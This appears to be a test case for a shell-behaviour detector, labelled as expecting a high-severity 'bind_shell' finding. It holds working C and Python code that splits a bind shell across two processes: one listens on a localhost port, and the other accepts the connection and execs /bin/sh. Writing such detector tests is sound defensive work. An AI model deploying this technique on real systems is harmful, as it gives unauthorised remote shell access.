# about: one program listens, another inherits the listener on its input, accepts, and becomes the shell
# expect: bind_shell high
# needs: python3 gcc
proven_caller 4529
cat >a.c <<'C'
#include <sys/socket.h>
#include <unistd.h>
int main(){int c=accept(0,0,0);for(int i=0;i<3;i++)dup2(c,i);execl("/bin/sh","sh",(char*)0);}
C
gcc -w -o a a.c
timeout 8 python3 -c 'import socket,os
l=socket.socket(); l.setsockopt(1,2,1); l.bind(("127.0.0.1",4529)); l.listen(1); os.dup2(l.fileno(),0); os.execv("./a",["a"])'
answered
